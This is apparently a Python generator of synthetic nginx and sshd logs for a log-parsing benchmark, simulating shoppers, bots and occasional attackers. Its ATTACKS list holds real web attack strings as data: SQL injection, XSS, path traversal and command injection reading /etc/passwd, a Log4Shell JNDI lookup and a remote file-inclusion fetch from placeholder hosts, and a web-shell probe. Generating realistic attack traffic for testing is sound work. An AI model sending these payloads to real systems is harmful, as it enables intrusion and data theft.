"""A shop's access log as nginx writes it: sessions of customers, bots, attackers. Used by the log bench.

About a hundred customers and bots at a time fetch a page and what it embeds; they log in, search, fill carts, pay.
One line in a hundred is an attack: scanners that try one thing after another, and guessers of passwords and coupons.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from itertools import count
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

ACTIVE = 100  # sessions under way at a time
PER_SECOND = 400
ATTACK_SHARE = 0.01
EPOCH = 1_772_409_600  # 2 March 2026, 00:00 UTC
AGENTS = 800
PRODUCTS, CATEGORIES, PICTURES = 60_000, 300, 90_000
WORDS = [
    "shirt",
    "shoes",
    "table",
    "lamp",
    "%E7%BA%AF%E6%A3%89",
    "coffee+mug",
    "winter+coat",
    "rug",
    "%C3%A9cran",
    "union+jack",
    "desk+chair",
    "kids%20bike",
    "50%25+off",
    "r%26b+vinyl",
]
ATTACKS = (
    "/product/{n}?id=1%27%20UNION%20SELECT%20NULL,{n}--",
    "/product/{n}?id={n}%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E",
    "/download?f=..%252f..%252f..%252fetc/passwd&n={n}",
    "/ping?h=127.0.0.1;cat+/etc/passwd&n={n}",
    "/?x=$%7Bjndi:ldap://198.51.100.9/a{n}%7D",
    "/.env?{n}",
    "/wp-content/backup-{n}.sql",
    "/shell{n}.php?cmd=id",
    "/cgi-bin/luci/;stok={n}/locale?form=country&operation=write&country=$(id)",
    "/?page=http://203.0.113.9/r57.txt?{n}",
)


@dataclass(slots=True)
class Request:
    client: str
    agent: str
    method: str
    target: str
    status: int
    size: int
    referrer: str


def requests(lines: int, seed: int = 20261123) -> Iterator[tuple[int, Request]]:
    """(second, request) for so many lines."""
    chance = random.Random(seed)
    agents = _agents(chance)
    sessions = [_customer(chance, agents) for _ in range(ACTIVE)]
    intruder = _intruder(chance)
    second = count()
    at = next(second)
    for number in range(lines):
        if number % PER_SECOND == PER_SECOND - 1:
            at = next(second)
        if chance.random() < ATTACK_SHARE:
            yield at, next(intruder)
            continue
        place = int(chance.random() * ACTIVE)
        request = next(sessions[place], None)
        if request is None:
            sessions[place] = _customer(chance, agents)
            request = next(sessions[place])
        yield at, request


def write(path: Path, lines: int, shape: Callable[[int, Request], str]) -> None:
    with path.open("w", encoding="ascii") as file:
        for at, request in requests(lines):
            file.write(shape(at, request))


def combined(at: int, r: Request) -> str:
    clock = f"{at // 3600 % 24:02d}:{at // 60 % 60:02d}:{at % 60:02d}"
    return (
        f'{r.client} - - [02/Mar/2026:{clock} +0000] "{r.method} {r.target} HTTP/1.1" {r.status} {r.size} '
        f'"{r.referrer}" "{r.agent}"\n'
    )


def nginx_json(at: int, r: Request) -> str:
    fields = {
        "time": EPOCH + at,
        "remote_addr": r.client,
        "request_method": r.method,
        "request_uri": r.target,
        "status": r.status,
        "body_bytes_sent": r.size,
        "http_referer": r.referrer,
        "http_user_agent": r.agent,
    }
    return json.dumps(fields) + "\n"


def sshd(at: int, r: Request) -> str:
    """The same clients at the door of a host: most log in, some are refused."""
    clock = f"Mar  2 {at // 3600 % 24:02d}:{at // 60 % 60:02d}:{at % 60:02d} shop-1 sshd[{r.size % 30000 + 1000}]:"
    if r.status < 400:
        return f"{clock} Accepted publickey for deploy from {r.client} port {r.size % 50000 + 1024} ssh2\n"
    return f"{clock} Failed password for invalid user u{r.size % 99} from {r.client} port {r.size % 50000 + 1024} ssh2\n"


SHAPES: dict[str, Callable[[int, Request], str]] = {
    "nginx-access": combined,
    "nginx-json": nginx_json,
    "syslog": sshd,
}


def _agents(chance: random.Random) -> list[str]:
    systems = (
        "Windows NT 10.0; Win64; x64",
        "X11; Linux x86_64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "Linux; Android 13; SM-S911B",
        "iPhone; CPU iPhone OS 17_5 like Mac OS X",
    )
    made = []
    for _ in range(AGENTS):
        version = f"{chance.randint(90, 134)}.0.{chance.randint(1000, 6999)}.{chance.randint(10, 200)}"
        made.append(
            f"Mozilla/5.0 ({chance.choice(systems)}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36"
        )
    return made


def _address(chance: random.Random) -> str:
    if chance.random() < 0.15:
        return f"2001:db8:{chance.randint(1, 0xFFFF):x}:{chance.randint(0, 0xFFFF):x}::{chance.randint(1, 0xFFFF):x}"
    return f"{chance.randint(11, 200)}.{chance.randint(0, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"


def _customer(chance: random.Random, agents: list[str]) -> Iterator[Request]:
    """Pages of one visitor, each with what it embeds; some log in, fill a cart and pay."""
    client, agent = _address(chance), chance.choice(agents)
    referrer = "-" if chance.random() < 0.6 else "https://www.google.com/"
    for _ in range(chance.randint(1, 12)):
        page = _page(chance)
        yield Request(client, agent, "GET", page, _status(chance), _size(chance), referrer)
        referrer = f"https://shop.example{page}"
        for _ in range(chance.randint(0, 9)):
            status = 304 if chance.random() < 0.3 else 200
            yield Request(client, agent, "GET", _asset(chance), status, _size(chance), referrer)
        if chance.random() < 0.12:
            for method, target in _step(chance):
                status = 200 if chance.random() < 0.92 else 422
                yield Request(client, agent, method, target, status, chance.randint(100, 4000), referrer)


def _page(chance: random.Random) -> str:
    kind = chance.random()
    if kind < 0.4:
        number = int(chance.paretovariate(0.4)) % PRODUCTS
        return f"/product/{number}/{WORDS[number % 4]}-{number % 50}"
    if kind < 0.6:
        return f"/c/{chance.randrange(CATEGORIES)}?page={chance.randint(1, 9)}&sort=price_asc&filter%5Bbrand%5D={chance.randrange(40)}"
    if kind < 0.8:
        return f"/search?q={chance.choice(WORDS)}&page={chance.randint(1, 4)}&rq={chance.getrandbits(40):x}"
    return chance.choice(("/", "/cart", "/checkout/address", "/account", "/login", "/api/v2/me?fields=a,b"))


def _asset(chance: random.Random) -> str:
    kind = chance.random()
    if kind < 0.6:
        number = int(chance.paretovariate(0.4)) % PICTURES
        return f"/static/img/{number}.{number % 97:02x}.webp?v={number % 40}"
    if kind < 0.8:
        return f"/static/js/{chance.randrange(40)}.8f3ab{chance.randrange(40):02x}.js"
    return f"/api/v2/products?ids={chance.randrange(PRODUCTS)},{chance.randrange(PRODUCTS)}&t={chance.getrandbits(32)}"


def _step(chance: random.Random) -> tuple[tuple[str, str], ...]:
    return chance.choice(
        (
            (("POST", "/login"),),
            (("POST", "/cart/add"), ("GET", "/cart")),
            (("POST", "/cart/coupon"),),
            (("POST", "/cart/add"), ("POST", "/checkout/address"), ("POST", "/checkout/payment")),
        )
    )


def _size(chance: random.Random) -> int:
    return int(chance.lognormvariate(9, 1.2))


def _status(chance: random.Random) -> int:
    return 200 if chance.random() < 0.95 else chance.choice((301, 302, 404))


def _intruder(chance: random.Random) -> Iterator[Request]:
    agents = ("Mozilla/5.0 (compatible)", "python-requests/2.31", "Mozilla/5.0 zgrab/0.x", "curl/8.5.0")
    while True:
        client, agent = _address(chance), chance.choice(agents)
        guess = chance.choice((("POST", "/login", 401), ("POST", "/cart/coupon", 422), ("GET", "", 404)))
        for _ in range(chance.randint(5, 60)):
            method, target, status = guess
            target = target or chance.choice(ATTACKS).format(n=chance.randrange(10**6))
            yield Request(client, agent, method, target, status, chance.randint(100, 900), "-")
